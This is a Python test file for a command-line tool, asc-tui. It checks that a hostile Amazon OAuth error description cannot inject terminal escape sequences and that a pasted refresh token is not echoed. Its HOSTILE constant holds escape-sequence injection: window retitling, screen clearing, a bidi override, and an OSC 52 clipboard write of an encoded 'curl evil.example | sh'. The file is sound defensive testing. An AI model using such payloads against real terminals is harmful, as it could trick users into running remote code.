"""Nothing asc-tui writes can drive the admin's terminal, and nothing it reads is echoed there.

Real processes: `asc-tui --sandbox stores connect` given Amazon's error_description full of escape
sequences (window title, clear screen, an OSC 52 clipboard write), pasted on stdin and sent by a browser
to the callback worker over HTTP; and the same command on a real pseudo-terminal, where a pasted
refresh token must not be echoed.
"""

from __future__ import annotations

import os
import pty
import re
import select
import signal
import subprocess
import sys
import termios
import time
from pathlib import Path
from urllib.parse import parse_qsl, urlencode, urlsplit

import httpx

from tests.support.connect import seed_store, start_connect

# ESC ] 0 retitles the window, ESC [ 2 J clears the screen, ESC ] 52 writes the clipboard (base64
# "curl evil.example | sh"), CSI in its C1 form, and a bidi override.
HOSTILE = (
    "\x1b]0;pwned\x07\x1b[2J\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07Seller said no\x9b31m\u202eevil"
)
RAW = ("\x1b", "\x07", "\x9b", "\u202e")


def declined(consent_url: str, base: str) -> str:
    """The address Amazon sends the browser to when the seller declines, with a hostile description."""
    state = dict(parse_qsl(urlsplit(consent_url).query))["state"]
    query = urlencode({"state": state, "error": "access_denied", "error_description": HOSTILE})
    return f"{base}?{query}"


def assert_clean(err: str) -> None:
    for raw in RAW:
        assert raw not in err, (raw, err)
    assert "Seller said no" in err  # Amazon's words are still there, as text


def test_a_pasted_error_description_cannot_drive_the_terminal(isolated_home: Path) -> None:
    seed_store()
    process, url = start_connect("Shop US")
    _out, err = process.communicate(
        declined(url, "https://admin.example.com/amazon/callback") + "\n", timeout=60
    )
    assert process.returncode == 1, err
    assert_clean(err)


def test_an_error_description_sent_to_the_callback_worker_cannot_drive_the_terminal(
    isolated_home: Path,
) -> None:
    seed_store()
    process, url = start_connect("Shop US")
    assert process.stderr is not None
    waiting = ""
    while "Waiting for Amazon at " not in waiting:
        waiting = process.stderr.readline()
        assert waiting, "the worker never said where it listens"
    redirect_uri = re.search(r"Waiting for Amazon at (\S+) for", waiting)
    assert redirect_uri is not None
    page = httpx.get(declined(url, redirect_uri.group(1)), follow_redirects=True, timeout=30)
    assert page.status_code == 200 and "\x1b" not in page.text
    _out, err = process.communicate(timeout=60)
    assert process.returncode == 1, err
    assert_clean(err)


# --- a pasted refresh token is not echoed -----------------------------------------------------------------

TOKEN = "Atzr|IwEBIHiddenRefreshTokenThatMustNotShowOnTheScreen0123456789"


def read_until(fd: int, marker: str, seen: list[str], timeout: float = 60) -> None:
    deadline = time.monotonic() + timeout
    while marker not in "".join(seen):
        left = deadline - time.monotonic()
        assert left > 0, f"no {marker!r} in {''.join(seen)!r}"
        ready, _w, _x = select.select([fd], [], [], left)
        if ready:
            try:
                chunk = os.read(fd, 65536)
            except OSError:  # the other end closed (EIO)
                chunk = b""
            assert chunk, f"closed before {marker!r}: {''.join(seen)!r}"
            seen.append(chunk.decode("utf-8", "replace"))


def _ctrl_c_as_in_a_shell() -> None:
    """The child gets Ctrl-C's default meaning: a test process may run with SIGINT ignored (a test before it
    in the same worker ignored it), and an ignored signal stays ignored across exec."""
    signal.signal(signal.SIGINT, signal.SIG_DFL)


def connect_on_a_terminal() -> tuple[int, int, subprocess.Popen[bytes]]:
    """`stores connect` on a real pseudo-terminal: (its master end, its slave end, the process)."""
    master, slave = pty.openpty()
    process = subprocess.Popen(
        [sys.executable, "-m", "asc_tui", "--sandbox", "stores", "connect", "Shop US"],
        stdin=slave,
        stdout=slave,
        stderr=slave,
        close_fds=True,
        preexec_fn=_ctrl_c_as_in_a_shell,
    )
    return master, slave, process


def test_a_pasted_refresh_token_is_not_echoed_on_the_terminal(isolated_home: Path) -> None:
    seed_store()
    master, slave, process = connect_on_a_terminal()
    os.close(slave)
    seen: list[str] = []
    try:
        read_until(master, "press Enter; Ctrl-C cancels.", seen)
        os.write(master, TOKEN.encode() + b"\n")
        read_until(master, "Seller ID", seen)
        os.write(master, b"A1SANDBOXNA001\n")
        read_until(master, "A1SANDBOXNA001", seen)  # the seller ID is no secret: it is shown
        # The emulator never issued that token, so the attempt goes on waiting; Ctrl-C ends it.
        read_until(master, "asc-tui: ", seen)
        process.send_signal(signal.SIGINT)
        assert process.wait(timeout=60) == 130
    finally:
        if process.poll() is None:
            process.kill()
            process.wait(timeout=10)
        os.close(master)
    screen = "".join(seen)
    assert TOKEN not in screen and "HiddenRefreshToken" not in screen, screen
    assert f"Read {len(TOKEN)} characters (not shown)." in screen, screen


def test_the_terminal_echoes_again_after_connect(isolated_home: Path) -> None:
    """Echo is turned off only while connecting: Ctrl-C puts the terminal back as it was."""
    seed_store()
    master, slave, process = connect_on_a_terminal()
    seen: list[str] = []
    try:
        read_until(master, "press Enter; Ctrl-C cancels.", seen)
        assert not termios.tcgetattr(slave)[3] & termios.ECHO  # hidden while waiting for the paste
        process.send_signal(signal.SIGINT)  # what Ctrl-C on its terminal sends
        assert process.wait(timeout=60) == 130
        assert termios.tcgetattr(slave)[3] & termios.ECHO
    finally:
        if process.poll() is None:
            process.kill()
            process.wait(timeout=10)
        os.close(slave)
        os.close(master)
